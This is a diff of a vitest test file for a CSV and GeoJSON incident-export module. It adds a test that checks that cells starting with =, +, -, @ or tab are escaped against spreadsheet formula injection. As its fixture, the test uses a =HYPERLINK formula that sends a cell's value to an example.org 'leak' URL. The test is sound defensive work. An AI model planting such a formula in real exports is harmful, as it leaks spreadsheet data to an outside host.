@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { check } from '@placemarkio/check-geojson';
 import { exportIncidents, incidentsToCsv } from '../../server/src/core/export/exportIncidents.js';
-import { INCIDENT_COLUMNS, incidentColumns, incidentsToCsvRows, incidentsToGeoJson } from '../../server/src/core/export/incidentFormats.js';
+import { csvField, INCIDENT_COLUMNS, incidentColumns, incidentsToCsvRows, incidentsToGeoJson } from '../../server/src/core/export/incidentFormats.js';
 import { exportReport } from '../../server/src/core/export/incidentRecords.js';
 import { Gazetteer } from '../../server/src/core/gazetteer/gazetteer.js';
 import { readGazetteerFile } from '../../server/src/core/gazetteer/readGazetteerFile.js';
@@ -255,6 +255,15 @@ describe('exportReport (incident level)', () => {
       fatalities: '3', killed_low: '3', killed_high: '3', killed_as_written: 'killed=3',
       notes: 'Three people were killed in the camp.',
     });
+  });
+
+  it('writes text that a spreadsheet would run as a formula with a leading quote, and negative numbers as numbers', () => {
+    const text = `---\ntitle: '=HYPERLINK("https://example.org/?leak="&A1, "open")'\npublished: 2023-10-10\n---\n\n:::incident{#a date=2023-10-04}\n-1 day: :count[3]{type=killed} killed by :actor[@someone]{role=perpetrator}.\n:::\n`;
+    const csv = incidentsToCsvRows([{ file: 'r.md', ...exportReport(parseReport(text), gazetteer) }]);
+    expect(csv.split('\n')[1]).toBe(
+      `r.md,6,"'=HYPERLINK(""https://example.org/?leak=""&A1, ""open"")",2023-10-10,a,2023-10-04,2023-10-04,2023-10-04,day,,,,,,,,,,,,,'@someone,,,,,,,,,,,,3,3,3,3,,,,,,,,,,,,,,,,,,,,,,'-1 day: 3 killed by @someone.`,
+    );
+    expect(['+1', '\tx', '\rx', '-', 'a=b', -36.5, 0, null].map(csvField)).toEqual(["'+1", "'\tx", `"'\rx"`, "'-", 'a=b', '-36.5', '0', '']);
   });
 
   it('sums to the stated totals: each incident once, whatever the number of sources', () => {
